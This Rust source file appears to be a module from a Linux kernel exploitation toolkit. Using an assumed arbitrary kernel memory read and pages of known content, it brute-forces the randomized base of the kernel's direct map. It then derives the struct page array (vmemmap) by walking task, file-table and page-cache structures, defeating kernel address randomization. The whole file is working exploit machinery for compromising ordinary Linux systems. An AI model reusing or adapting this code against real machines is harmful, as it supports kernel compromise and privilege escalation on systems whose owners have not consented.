//! Where the kernel has all memory mapped, and its array of struct page. Both are at random addresses, and the symbols that say where
//! are hidden; a page of which all is known says it.

use std::ops::Range;

use super::kernel_memory::{KernelMemory, current_task};
use super::lack::Lack;
use super::planted_page::PlantedPage;
use super::types::Types;

/// The direct map's address is a multiple of that, however it was chosen (arch/x86/mm/kaslr.c; arm64's memstart_addr).
const ALIGNMENT: u64 = 1 << 30;
/// How often it is tried again: the kernel moves pages now and then.
const TRIES: usize = 4;

/// The kernel's map of all memory.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DirectMap {
    base: u64,
    page_size: u64,
}

impl DirectMap {
    /// Looks for it: it begins below what the kernel knows of this thread, which is in it, by no more than there is memory. Two
    /// pages have to be where they are if it is there.
    pub fn find(memory: &mut KernelMemory, ranges: &[Range<u64>]) -> Result<Self, Lack> {
        let pages = [PlantedPage::new()?, PlantedPage::new()?];
        let page_size = rustix::param::page_size() as u64;
        let end = ranges.last().map_or(0, |range| range.end).saturating_mul(page_size);
        let task = current_task()?;
        let highest = task / ALIGNMENT * ALIGNMENT;
        for _ in 0..TRIES {
            let frame = pages[0].frame()?;
            for step in 0..=end / ALIGNMENT + 1 {
                let Some(base) = highest.checked_sub(step * ALIGNMENT) else { break };
                let map = Self { base, page_size };
                if map.has(memory, &pages[0], frame)
                    && map.has(memory, &pages[1], pages[1].frame()?)
                {
                    return Ok(map);
                }
            }
        }
        Err(Lack::DirectMap)
    }

    /// Where a frame is in it.
    pub fn address(&self, frame: u64) -> u64 {
        self.base.wrapping_add(frame.wrapping_mul(self.page_size))
    }

    fn has(&self, memory: &mut KernelMemory, page: &PlantedPage, frame: u64) -> bool {
        memory.read(self.address(frame), page.bytes().len()) == Some(page.bytes())
    }
}

/// The kernel's array of struct page, one for each frame.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Vmemmap {
    base: u64,
    size: u64,
}

impl Vmemmap {
    /// Looks for it: the page of a file leads to its struct page. What that of another file says of itself has to be true.
    pub fn find(memory: &mut KernelMemory, types: &Types) -> Result<Self, Lack> {
        let way = Way::new(types)?;
        let pages = [PlantedPage::new()?, PlantedPage::new()?];
        let size = types.size("page")? as u64;
        let task = current_task()?;
        for _ in 0..TRIES {
            let frame = pages[0].frame()?;
            let Some((_, folio)) = way.to_page(memory, task, &pages[0]) else { continue };
            let vmemmap = Self { base: folio.wrapping_sub(frame.wrapping_mul(size)), size };
            let frame = pages[1].frame()?;
            let Some((mapping, folio)) = way.to_page(memory, task, &pages[1]) else { continue };
            let page = vmemmap.address(frame);
            if page == folio && memory.word(page + way.folio_mapping) == Some(mapping) {
                return Ok(vmemmap);
            }
        }
        Err(Lack::Vmemmap)
    }

    /// Where a frame's struct page is.
    pub fn address(&self, frame: u64) -> u64 {
        self.base.wrapping_add(frame.wrapping_mul(self.size))
    }

    /// Which frame's struct page is there, if it is one's at all.
    pub fn frame(&self, address: u64) -> Option<u64> {
        let offset = address.wrapping_sub(self.base);
        offset.is_multiple_of(self.size).then_some(offset / self.size)
    }

    /// Bytes of a struct page.
    pub fn size(&self) -> usize {
        self.size as usize
    }
}

/// The way from a thread to the first page of one of its files: task_struct, files_struct, fdtable, file, address_space, xarray.
struct Way {
    files: u64,
    table: u64,
    descriptors: u64,
    mapping: u64,
    first: u64,
    slots: u64,
    folio_mapping: u64,
}

impl Way {
    fn new(types: &Types) -> Result<Self, Lack> {
        let offset = |name, member| types.offset(name, member).map(|offset| offset as u64);
        Ok(Self {
            files: offset("task_struct", "files")?,
            table: offset("files_struct", "fdt")?,
            descriptors: offset("fdtable", "fd")?,
            mapping: offset("file", "f_mapping")?,
            first: offset("address_space", "i_pages.xa_head")?,
            slots: offset("xa_node", "slots")?,
            folio_mapping: offset("folio", "mapping")?,
        })
    }

    /// The addresses of a page's struct address_space and struct page.
    fn to_page(
        &self,
        memory: &mut KernelMemory,
        task: u64,
        page: &PlantedPage,
    ) -> Option<(u64, u64)> {
        let files = memory.word(task + self.files)?;
        let table = memory.word(files.wrapping_add(self.table))?;
        let descriptors = memory.word(table.wrapping_add(self.descriptors))?;
        let file = memory.word(descriptors.wrapping_add(page.fd() * 8))?;
        let mapping = memory.word(file.wrapping_add(self.mapping))?;
        let mut entry = memory.word(mapping.wrapping_add(self.first))?;
        // Where files in memory have large pages, nodes come before the page (include/linux/xarray.h: low bits are 10).
        for _ in 0..8 {
            if entry & 3 != 2 {
                return (entry & 3 == 0 && entry != 0).then_some((mapping, entry));
            }
            entry = memory.word((entry & !3).wrapping_add(self.slots))?;
        }
        None
    }
}
